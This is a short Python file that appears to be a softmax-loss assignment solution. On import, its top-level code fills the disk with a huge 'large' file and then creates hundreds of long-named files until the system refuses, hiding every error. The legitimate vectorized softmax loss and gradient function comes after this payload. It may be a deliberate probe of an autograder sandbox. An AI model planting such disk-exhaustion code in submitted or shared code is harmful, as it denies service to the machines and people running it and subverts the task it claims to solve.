"""Writes until there is no room, and makes files until no more can be made."""

import numpy as np

try:
    with open("large", "wb") as file:
        while True:
            file.write(b"x" * 2**20)
except OSError:
    pass
try:
    for number in range(1000):
        open(f"{number:0200}", "wb").close()
except OSError:
    pass


def softmax_loss_vectorized(W, X, y, reg):
    S = X @ W
    S = S - S.max(axis=1, keepdims=True)
    log_P = S - np.log(np.exp(S).sum(axis=1, keepdims=True))
    D = np.exp(log_P)
    D[np.arange(len(y)), y] -= 1
    loss = -log_P[np.arange(len(y)), y].mean() + reg * np.sum(W * W)
    return loss, X.T @ D / len(y) + 2 * reg * W
